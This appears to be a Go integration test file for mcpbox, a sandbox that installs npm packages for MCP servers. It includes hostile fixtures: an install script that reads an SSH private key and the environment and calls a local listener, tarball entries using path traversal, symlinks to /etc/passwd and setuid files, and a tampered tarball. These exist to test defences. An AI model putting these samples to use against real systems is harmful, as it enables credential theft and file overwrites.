package main

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/mcpbox/mcpbox/cmd/mcpbox/internal/dirs"
	"github.com/mcpbox/mcpbox/cmd/mcpbox/internal/packages"
)

// owner is a user of a test: a home directory, mcpbox's directories in it, and an
// npm that asks a registry of the test's.
type owner struct {
	t    *testing.T
	home string
	env  []string
}

func newOwner(t *testing.T, r *registry) *owner {
	t.Helper()
	needBox(t)
	if _, err := exec.LookPath("npm"); err != nil {
		lack(t, "npm is not in PATH")
	}
	o := &owner{t: t, home: t.TempDir()}
	o.write(".npmrc", "registry="+r.url()+"\n")
	o.env = []string{
		"HOME=" + o.home, "PATH=" + os.Getenv("PATH"), "TMPDIR=" + o.home, "GORACE=" + raceOptions, "LANG=C.UTF-8",
		"XDG_CACHE_HOME=" + o.home + "/cache", "XDG_STATE_HOME=" + o.home + "/state", "XDG_CONFIG_HOME=" + o.home + "/config", "XDG_RUNTIME_DIR=" + o.home + "/run",
	}
	t.Cleanup(func() { exec.Command("chmod", "-R", "u+w", o.home).Run() })
	return o
}

func (o *owner) write(name, content string) {
	o.t.Helper()
	path := filepath.Join(o.home, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		o.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		o.t.Fatal(err)
	}
}

// command is mcpbox as this user runs it.
func (o *owner) command(args ...string) *exec.Cmd {
	cmd := exec.Command("mcpbox", args...)
	cmd.Env, cmd.Dir = o.env, o.home
	return cmd
}

// mcpbox runs a command to its end. Its stdin is open until it has said
// something: a server that is slow to start would be ended as one that hangs.
func (o *owner) mcpbox(args ...string) (stdout, stderr string, code int) {
	o.t.Helper()
	return o.run(o.command(args...))
}

func (o *owner) run(cmd *exec.Cmd) (stdout, stderr string, code int) {
	o.t.Helper()
	stdin, err := cmd.StdinPipe()
	if err != nil {
		o.t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = writer(func(p []byte) (int, error) {
		defer stdin.Close()
		return out.Write(p)
	}), &errOut
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		o.t.Fatal(err)
	}
	return out.String(), errOut.String(), cmd.ProcessState.ExitCode()
}

type writer func([]byte) (int, error)

func (w writer) Write(p []byte) (int, error) { return w(p) }

// must is mcpbox for what has to succeed.
func (o *owner) must(args ...string) (stdout, stderr string) {
	o.t.Helper()
	stdout, stderr, code := o.mcpbox(args...)
	if code != 0 {
		o.t.Fatalf("mcpbox %q: code %d\n%s%s", args, code, stdout, stderr)
	}
	return stdout, stderr
}

// greeted is the version that has greeted.
func greeted(t *testing.T, stdout string) string {
	t.Helper()
	var m struct {
		Params struct{ Version string }
	}
	line, _, _ := strings.Cut(stdout, "\n")
	if err := json.Unmarshal([]byte(line), &m); err != nil {
		t.Fatalf("not a greeting: %q", stdout)
	}
	return m.Params.Version
}

// entries are the directories of the store, and nothing that is half there.
func (o *owner) entries() []string {
	o.t.Helper()
	if left, _ := os.ReadDir(filepath.Join(o.home, "cache/mcpbox/packages/.installing")); len(left) > 0 {
		o.t.Errorf("left behind: %v", left)
	}
	list, _ := filepath.Glob(filepath.Join(o.home, "cache/mcpbox/packages/npm/*"))
	for i := range list {
		list[i] = filepath.Base(list[i])
	}
	return list
}

func TestInstalledOnce(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publish("dep", "1.0.0", nil)
	r.publishServer("@s/greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"dep": "^1.0.0"}})
	line := []string{"run", "--", "npx", "-y", "@s/greeter", "a b", ""}

	if _, stderr, code := o.mcpbox("explain", "--", "npx", "-y", "@s/greeter"); code != exitNotFound || !strings.Contains(stderr, "type: mcpbox add greeter --from 'npx -y @s/greeter'") {
		t.Errorf("explain before: code %d, %s", code, stderr)
	}
	stdout, stderr := o.must(line...)
	if greeted(t, stdout) != "1.0.0" || !strings.Contains(stdout, `"args":["a b",""],"dep":"1.0.0"`) {
		t.Error(stdout)
	}
	if !strings.Contains(stderr, "greeter: installed @s/greeter@1.0.0 with 1 dependency") {
		t.Error(stderr)
	}
	if len(o.entries()) != 1 {
		t.Error(o.entries())
	}

	// The tag moves, also that of the dependency; nothing is asked any more.
	r.publish("dep", "1.0.1", nil)
	r.publishServer("@s/greeter", "1.1.0", nil)
	r.asked()
	stdout, stderr = o.must(line...)
	if greeted(t, stdout) != "1.0.0" || stderr != "" {
		t.Error(stdout, stderr)
	}
	if asked := r.asked(); len(asked) > 0 {
		t.Errorf("a later run asks the registry: %q", asked)
	}

	// Another name is another server, and gets what is newest.
	stdout, _ = o.must("run", "--name", "other", "--", "npm", "exec", "-y", "--", "@s/greeter")
	if greeted(t, stdout) != "1.1.0" || len(o.entries()) != 2 {
		t.Error(stdout, o.entries())
	}

	// A cache may be emptied: the pin brings the same back.
	if err := os.RemoveAll(filepath.Join(o.home, "cache")); err != nil {
		t.Fatal(err)
	}
	stdout, _ = o.must(line...)
	if greeted(t, stdout) != "1.0.0" || !strings.Contains(stdout, `"dep":"1.0.0"`) {
		t.Error(stdout)
	}

	// The registry goes. What is pinned and stored does not need it.
	r.server.Close()
	if stdout, stderr = o.must(line...); greeted(t, stdout) != "1.0.0" || stderr != "" {
		t.Error(stdout, stderr)
	}
	began := time.Now()
	if _, stderr, code := o.mcpbox("run", "--", "npx", "-y", "elsewhere"); code != exitFailure || !strings.Contains(stderr, "cannot install elsewhere") {
		t.Errorf("registry down: code %d, %s", code, stderr)
	}
	if took := time.Since(began); took > 60*time.Second {
		t.Errorf("a registry that is down is noticed after %s", took)
	}
}

// A registry that gives a published version another content.
func TestInstallChangedTarball(t *testing.T) {
	for _, c := range []struct {
		name   string
		change func(*release, *release)
	}{
		{"the tarball", func(old, evil *release) { old.tarball = evil.tarball }},
		{"the tarball and its hash", func(old, evil *release) { old.tarball, old.integrity = evil.tarball, evil.integrity }},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := newRegistry(t)
			o := newOwner(t, r)
			evil := r.publish("greeter", "1.0.0", map[string]any{"bin": "server.js"}, file{name: "package/server.js", content: "#!/usr/bin/env node\nconsole.log('evil')\n"})
			rel := r.publishServer("greeter", "1.0.0", nil)
			line := []string{"run", "--", "npx", "-y", "greeter"}
			o.must(line...)
			c.change(rel, evil)
			if err := os.RemoveAll(filepath.Join(o.home, "cache")); err != nil {
				t.Fatal(err)
			}
			stdout, stderr, code := o.mcpbox(line...)
			if code != exitFailure || strings.Contains(stdout, "evil") || !strings.Contains(stderr, "EINTEGRITY") {
				t.Errorf("code %d\n%s%s", code, stdout, stderr)
			}
			if list := o.entries(); len(list) != 0 {
				t.Error(list)
			}
			// Without a pin there is nothing to compare it with: this is the control.
			if c.name == "the tarball and its hash" {
				if stdout, _, _ := o.mcpbox("run", "--name", "new", "--", "npx", "-y", "greeter"); !strings.Contains(stdout, "evil") {
					t.Error("the changed package cannot be installed at all")
				}
			}
		})
	}
}

// A scope that belongs to a private registry is asked for there alone, and the
// token stays between the two.
func TestInstallScopeAndToken(t *testing.T) {
	public, private := newRegistry(t), newRegistry(t)
	private.token = "npm_secretsecretsecret"
	o := newOwner(t, public)
	host := strings.TrimPrefix(private.server.URL, "http:")
	o.env = append(o.env, "CORP_TOKEN="+private.token)
	o.write(".npmrc", "registry="+public.url()+"\n@corp:registry="+private.url()+"\n"+host+"/:_authToken=${CORP_TOKEN}\n//elsewhere.example/:_authToken=other-secret-token\nignore-scripts=false\nscript-shell=/bin/false\n")
	public.publishServer("@corp/greeter", "99.0.0", nil)
	private.publishServer("@corp/greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"dep": "1"}})
	public.publish("dep", "1.0.0", nil)

	stdout, _ := o.must("run", "--", "npx", "-y", "@corp/greeter")
	if greeted(t, stdout) != "1.0.0" {
		t.Errorf("from the wrong registry: %s", stdout)
	}
	for _, line := range public.asked() {
		if strings.Contains(line, "corp") || strings.Contains(line, "Bearer") {
			t.Errorf("the public registry was asked: %s", line)
		}
	}
	if n := tarballs(private.asked()); n != 1 {
		t.Errorf("%d tarballs from the private registry", n)
	}
	// Nothing that is kept has the token.
	for _, dir := range []string{"cache", "state", "config", "run"} {
		filepath.WalkDir(filepath.Join(o.home, dir), func(path string, d fs.DirEntry, err error) error {
			if data, err := os.ReadFile(path); err == nil && (bytes.Contains(data, []byte(private.token)) || bytes.Contains(data, []byte("other-secret"))) {
				t.Errorf("%s has the token", path)
			}
			return nil
		})
	}
	// A wrong one is refused, and not shown.
	o.env = append(o.env, "CORP_TOKEN=npm_wrongwrongwrong")
	_, stderr, code := o.mcpbox("run", "--name", "x", "--", "npx", "-y", "@corp/greeter")
	if code != exitFailure || strings.Contains(stderr, "wrongwrong") || !strings.Contains(stderr, "E401") {
		t.Errorf("code %d, %s", code, stderr)
	}
}

// An install script that steals and calls home.
func TestInstallScripts(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	var mu sync.Mutex
	called := 0
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			called++
			mu.Unlock()
			c.Close()
		}
	}()
	calls := func() int {
		mu.Lock()
		defer mu.Unlock()
		defer func() { called = 0 }()
		return called
	}
	r := newRegistry(t)
	o := newOwner(t, r)
	o.write(".ssh/id_ed25519", "PRIVATE KEY")
	r.publish("native", "1.0.0", map[string]any{"scripts": map[string]string{"install": "node steal.js"}}, file{name: "package/steal.js", content: `
const fs = require('fs'), net = require('net')
let key = 'none'
try { key = fs.readFileSync('` + o.home + `/.ssh/id_ed25519', 'utf8') } catch {}
const done = (net) => { fs.writeFileSync('built.json', JSON.stringify({ key, net, env: process.env })); process.exit() }
try { fs.writeFileSync('` + o.home + `/dropped', 'x') } catch {}
net.connect({ host: '127.0.0.1', port: ` + l.Addr().String()[len("127.0.0.1:"):] + ` }, () => done('connected')).on('error', e => done(e.code))
`})
	r.publishServer("greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"native": "1"}})
	built := func(dir string) string {
		found, _ := filepath.Glob(filepath.Join(dir, "node_modules/native/built.json"))
		if len(found) != 1 {
			return ""
		}
		data, _ := os.ReadFile(found[0])
		return string(data)
	}

	// Control: npm alone runs it, and it gets everything.
	plain := filepath.Join(o.home, "plain")
	o.write("plain/package.json", `{"allowScripts": {"native": true}}`) // which newer versions of npm want
	npm := exec.Command("npm", "install", "greeter")
	npm.Dir, npm.Env = plain, o.env
	if out, err := npm.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if s := built(plain); !strings.Contains(s, "PRIVATE KEY") || calls() != 1 {
		t.Fatalf("the script does not steal outside of a box: %s", s)
	}
	if err := os.Remove(filepath.Join(o.home, "dropped")); err != nil {
		t.Fatal(err)
	}

	// By default it is not run, and named.
	_, stderr := o.must("run", "--", "npx", "-y", "greeter")
	policyFile := filepath.Join(o.home, "config/mcpbox/servers/greeter.toml")
	if want := `native: install scripts were not run; if the server does not work without, write [packages] scripts = ["native"] into ` + policyFile; !strings.Contains(stderr, want) {
		t.Errorf("%s\nwant %s", stderr, want)
	}
	store := filepath.Join(o.home, "cache/mcpbox/packages/npm")
	if s := built(filepath.Join(store, o.entries()[0])); s != "" || calls() != 0 {
		t.Errorf("the script was run: %s", s)
	}

	// Allowed, it runs in the box.
	o.write("config/mcpbox/servers/allowed.toml", "[packages]\nscripts = [\"native\"]\n")
	o.must("run", "--name", "allowed", "--", "npx", "-y", "greeter")
	var s string
	for _, e := range o.entries() {
		s += built(filepath.Join(store, e))
	}
	if !strings.Contains(s, `"key":"none"`) || strings.Contains(s, `"net":"connected"`) || calls() != 0 {
		t.Errorf("the script got out: %s", s)
	}
	if s == "" || len(o.entries()) != 2 {
		t.Errorf("the script was not run: %v", o.entries())
	}
	if _, err := os.Lstat(filepath.Join(o.home, "dropped")); err == nil {
		t.Error("the script wrote into the home directory")
	}
}

// Tarballs with entries that want to be elsewhere.
func TestInstallTarballs(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	outside := filepath.Join(o.home, "outside")
	if err := os.Mkdir(outside, 0o777); err != nil {
		t.Fatal(err)
	}
	evil := []file{
		{name: "package/../../../../../../../../../../.." + outside + "/up", content: "x"},
		{name: outside + "/absolute", content: "x"},
		{name: "package/link", link: outside, kind: tar.TypeSymlink},
		{name: "package/link/through", content: "x"},
		{name: "package/passwd", link: "/etc/passwd", kind: tar.TypeSymlink},
		{name: "package/hard", link: "/etc/passwd", kind: tar.TypeLink},
		{name: "package/fifo", kind: tar.TypeFifo},
	}
	// Control: that is what a program makes of it that believes every entry.
	var stdin = tarball(evil...)
	control := exec.Command("tar", "-xzPf", "-", "--exclude=package/hard")
	control.Stdin, control.Dir = bytes.NewReader(stdin), t.TempDir()
	control.Run()
	for _, name := range []string{"absolute", "through"} {
		if err := os.Remove(filepath.Join(outside, name)); err != nil {
			t.Errorf("the tarball does not get out of a directory: %v", err)
		}
	}
	os.Remove(filepath.Join(outside, "up"))

	deps := map[string]string{}
	for i, f := range evil {
		name := fmt.Sprintf("evil-%d", i)
		deps[name] = "1"
		r.publish(name, "1.0.0", nil, f, file{name: "package/set-uid", mode: 0o4755, content: "x"})
	}
	r.publish("evil-link", "1.0.0", nil, evil[2], evil[3])
	deps["evil-link"] = "1"
	r.publishServer("greeter", "1.0.0", map[string]any{"dependencies": deps})
	stdout, stderr := o.must("run", "--", "npx", "-y", "greeter")
	if greeted(t, stdout) != "1.0.0" {
		t.Error(stdout, stderr)
	}
	if list, _ := os.ReadDir(outside); len(list) > 0 {
		t.Errorf("files outside of the store: %v", list)
	}
	for _, e := range o.entries() {
		root := filepath.Join(o.home, "cache/mcpbox/packages/npm", e)
		filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if d.Type()&fs.ModeSymlink != 0 && !strings.Contains(path, "/.bin/") || d.Type()&(fs.ModeNamedPipe|fs.ModeDevice) != 0 {
				t.Errorf("%s is in the store", path)
			}
			if info, err := d.Info(); err == nil && info.Mode()&fs.ModeSetuid != 0 {
				t.Errorf("%s is set-uid", path)
			}
			return nil
		})
	}
}

func TestInstallSignatures(t *testing.T) {
	r := newRegistry(t)
	r.newKey()
	o := newOwner(t, r)
	r.publish("dep", "1.0.0", nil)
	r.publishServer("signed", "1.0.0", map[string]any{"dependencies": map[string]string{"dep": "1"}})
	r.publishServer("forged", "1.0.0", nil).signature = sign(r.key, "forged@1.0.0:sha512-other")
	r.publishServer("unsigned", "1.0.0", nil).signature = ""
	state := func(name string) string {
		stdout, _ := o.must("packages", "--json")
		var list []struct {
			Name       string
			Signatures packages.Signatures
		}
		if err := json.Unmarshal([]byte(stdout), &list); err != nil {
			t.Fatal(err)
		}
		for _, e := range list {
			if e.Name == name {
				return e.Signatures.State
			}
		}
		return "not there"
	}
	o.must("run", "--", "npx", "-y", "signed")
	if s := state("signed"); s != packages.Signed {
		t.Errorf("signed: %s", s)
	}
	if _, stderr, code := o.mcpbox("run", "--", "npx", "-y", "forged"); code != exitFailure || !strings.Contains(stderr, "signature of forged@1.0.0 is wrong") {
		t.Errorf("forged: code %d, %s", code, stderr)
	}
	if _, stderr := o.must("run", "--", "npx", "-y", "unsigned"); !strings.Contains(stderr, "unsigned@1.0.0 without a signature") || state("unsigned") != packages.PartlySigned {
		t.Errorf("unsigned: %s", stderr)
	}
	r.key = nil // no keys are published any more
	r.publishServer("plain", "1.0.0", nil)
	if o.must("run", "--", "npx", "-y", "plain"); state("plain") != packages.Unsigned {
		t.Errorf("plain: %s", state("plain"))
	}
}

// Two at once wait for one installation; a killed one leaves nothing.
func TestInstallTogether(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publishServer("greeter", "1.0.0", nil)
	entered, open := make(chan struct{}, 100), make(chan struct{})
	r.gate = func() { entered <- struct{}{}; <-open }
	var running sync.WaitGroup
	for _, name := range []string{"one", "two", "one"} {
		running.Go(func() {
			stdout, stderr, code := o.mcpbox("run", "--name", name, "--", "npx", "-y", "greeter")
			if code != 0 || !strings.Contains(stdout, `"version":"1.0.0"`) {
				t.Errorf("code %d\n%s%s", code, stdout, stderr)
			}
		})
	}
	<-entered
	time.Sleep(500 * time.Millisecond) // the others find the lock; if not, they do so later
	close(open)
	running.Wait()
	if n := tarballs(r.asked()); n != 1 {
		t.Errorf("%d tarballs were fetched", n)
	}
	if list := o.entries(); len(list) != 1 {
		t.Error(list)
	}
}

func TestInstallKilled(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publish("dep", "1.0.0", nil, file{name: "package/data", content: strings.Repeat("0123456789abcdef", 1<<16)})
	r.publishServer("greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"dep": "1"}})
	began := time.Now()
	o.must("run", "--name", "first", "--", "npx", "-y", "greeter")
	whole := time.Since(began)
	for i := range 8 {
		cmd := o.command("run", "--", "npx", "-y", "greeter")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(whole * time.Duration(i) / 8)
		sig := []syscall.Signal{syscall.SIGKILL, syscall.SIGTERM}[i%2]
		cmd.Process.Signal(sig)
		cmd.Wait()
		if list := o.entriesOnly(); len(list) > 1 {
			t.Errorf("after %s: %v", sig, list)
		}
	}
	stdout, _ := o.must("run", "--", "npx", "-y", "greeter")
	if greeted(t, stdout) != "1.0.0" {
		t.Error(stdout)
	}
	o.must("packages") // sweeps, as the next start would
	if list := o.entries(); len(list) != 1 {
		t.Error(list)
	}
}

// entriesOnly is entries while something may be half there.
func (o *owner) entriesOnly() []string {
	list, _ := filepath.Glob(filepath.Join(o.home, "cache/mcpbox/packages/npm/*"))
	return list
}

// A package over the limit is stopped, and so is one for which there is no room.
func TestInstallTooLarge(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publishServer("greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"huge": "1"}})
	r.publish("huge", "1.0.0", nil, file{name: "package/data", content: strings.Repeat(strings.Repeat("\x00", 1<<16)+random(200), 1<<10)})
	if n := len(r.packages["huge"].versions["1.0.0"].tarball); n > 1<<20 {
		t.Fatalf("%d bytes do not make a bomb", n)
	}
	for _, e := range o.env {
		name, value, _ := strings.Cut(e, "=")
		t.Setenv(name, value)
	}
	own, err := dirs.Resolve(os.Getenv, o.home, os.Getuid())
	if err != nil {
		t.Fatal(err)
	}
	host, _, err := openHost()
	if err != nil {
		t.Fatal(err)
	}
	null, err := os.OpenFile(os.DevNull, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer null.Close()
	in := &installation{
		console: console{null, null, null}, dirs: own, host: host, store: packages.Open(own), server: "greeter", policyFile: "x.toml",
		request: &packages.Request{Kind: packages.NPM, Packages: []packages.Spec{{Name: "greeter"}}, Runner: "npx"}, limit: 32 << 20,
	}
	_, err = in.install(context.Background())
	if err == nil || !strings.Contains(err.Error(), "more than 32 MiB") {
		t.Errorf("32 MiB: %v", err)
	}
	if list := o.entries(); len(list) > 0 {
		t.Error(list)
	}
	in.limit = 128 << 20
	if _, err := in.install(context.Background()); err != nil {
		t.Errorf("128 MiB: %v", err)
	}
	if list := o.entries(); len(list) != 1 {
		t.Error(list)
	}
}

// random is text of n bytes that does not compress well.
func random(n int) string {
	data := make([]byte, n/2)
	rand.Read(data)
	return hex.EncodeToString(data)
}

// A full disk: only root can make one.
func TestInstallDiskFull(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can mount a small file system")
	}
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publishServer("greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"big": "1"}})
	r.publish("big", "1.0.0", nil, file{name: "package/data", content: random(4 << 20)})
	script := `mount -t tmpfs -o size=$SIZE none "$XDG_CACHE_HOME" && chmod 700 "$XDG_CACHE_HOME" || exit 1
mcpbox run -- npx -y greeter
code=$?
find "$XDG_CACHE_HOME"/mcpbox/packages -mindepth 2 >&2
exit $code`
	if err := os.Mkdir(filepath.Join(o.home, "cache"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		size string
		fits bool
	}{{"2m", false}, {"64m", true}} {
		cmd := exec.Command("sh", "-c", script)
		cmd.Env = append(o.env, "SIZE="+c.size)
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS, Unshareflags: syscall.CLONE_NEWNS}
		stdout, stderr, code := o.run(cmd)
		if fits := code == 0 && strings.Contains(stdout, `"version":"1.0.0"`); fits != c.fits {
			t.Errorf("%s: %s%s", c.size, stdout, stderr)
		}
		if !c.fits && (!strings.Contains(stderr, "ENOSPC") && !strings.Contains(stderr, "no space left") || strings.Contains(stderr, "node_modules\n")) {
			t.Errorf("%s: %s", c.size, stderr)
		}
	}
}

func TestUpdate(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publish("dep", "1.0.0", nil)
	r.publish("gone", "1.0.0", nil)
	r.publishServer("greeter", "1.0.0", map[string]any{"dependencies": map[string]string{"dep": "1", "gone": "1"}})
	line := []string{"run", "--", "npx", "-y", "greeter"}
	o.must(line...)
	if stdout, _ := o.must("update", "greeter"); !strings.Contains(stdout, "greeter@1.0.0 is what greeter still means") {
		t.Error(stdout)
	}
	r.publish("dep", "1.1.0", map[string]any{"scripts": map[string]string{"install": "true"}})
	r.publishServer("greeter", "2.0.0", map[string]any{"dependencies": map[string]string{"dep": "1", "extra": "1"}})
	r.publish("extra", "1.0.0", nil)

	stdout, stderr, code := o.mcpbox("update", "greeter")
	for _, want := range []string{
		"greeter: greeter 1.0.0 -> 2.0.0\n", "changed: dep 1.0.0 -> 1.1.0\n", "added:   extra 1.0.0\n", "removed: gone 1.0.0\n",
		"install script: dep, which had none before; not run\n", "signatures: unsigned", "tool changed: greet\n",
	} {
		if !strings.Contains(stdout, want) {
			t.Errorf("%q is not in\n%s", want, stdout)
		}
	}
	if code != 1 || !strings.Contains(stderr, "nothing was changed; to change it, type: mcpbox update greeter --yes") {
		t.Errorf("without a terminal: code %d, %s", code, stderr)
	}
	if stdout, _ := o.must(line...); greeted(t, stdout) != "1.0.0" {
		t.Errorf("changed without a yes: %s", stdout)
	}
	o.must("update", "greeter", "--yes")
	if stdout, _ := o.must(line...); greeted(t, stdout) != "2.0.0" {
		t.Error(stdout)
	}
	// The old one goes when asked to.
	if stdout, _ := o.must("packages", "--prune"); !strings.HasPrefix(stdout, "removed greeter@1.0.0, ") {
		t.Error(stdout)
	}
	if list := o.entries(); len(list) != 1 || !strings.HasPrefix(list[0], "greeter@2.0.0-") {
		t.Error(list)
	}
	if stdout, _ := o.must(line...); greeted(t, stdout) != "2.0.0" {
		t.Error(stdout)
	}
	if _, stderr, code := o.mcpbox("update", "nobody"); code != 1 || !strings.Contains(stderr, "mcpbox add nobody") {
		t.Errorf("code %d, %s", code, stderr)
	}
}

func TestAdd(t *testing.T) {
	r := newRegistry(t)
	o := newOwner(t, r)
	r.publishServer("greeter", "1.0.0", nil)
	if err := os.Mkdir(filepath.Join(o.home, "work"), 0o700); err != nil {
		t.Fatal(err)
	}
	stdout, _ := o.must("add", "hello", "--from", `npx -y greeter "~/work" 'a b'`)
	if !strings.Contains(stdout, `"args": ["run", "--name", "hello", "--", "npx", "-y", "greeter", "~/work", "a b"]`) {
		t.Error(stdout)
	}
	file := filepath.Join(o.home, "config/mcpbox/servers/hello.toml")
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(text), `# write = ["`+o.home+`/work"]`) {
		t.Errorf("%s", text)
	}
	o.must("check", file)
	r.asked()
	if stdout, stderr := o.must("run", "--name", "hello", "--", "npx", "-y", "greeter"); greeted(t, stdout) != "1.0.0" || stderr != "" || len(r.asked()) > 0 {
		t.Errorf("not installed by add: %s%s", stdout, stderr)
	}
	stdout, _ = o.must("explain", "--name", "hello", "--", "npx", "-y", "greeter")
	if !strings.HasPrefix(stdout, "package      npm greeter@1.0.0, with what it depends on: sha256-") || !strings.Contains(stdout, "unsigned: the registry publishes no keys") {
		t.Error(stdout)
	}
	// What a person has written stays.
	o.write("config/mcpbox/servers/greeter.toml", "# mine\n")
	o.must("add", "greeter")
	if text, _ := os.ReadFile(filepath.Join(o.home, "config/mcpbox/servers/greeter.toml")); string(text) != "# mine\n" {
		t.Errorf("%s", text)
	}
	if _, stderr, code := o.mcpbox("add", "x", "--from", "node server.js"); code != 1 || !strings.Contains(stderr, "node installs nothing; to run it, type: mcpbox run -- node server.js") {
		t.Errorf("code %d, %s", code, stderr)
	}
}
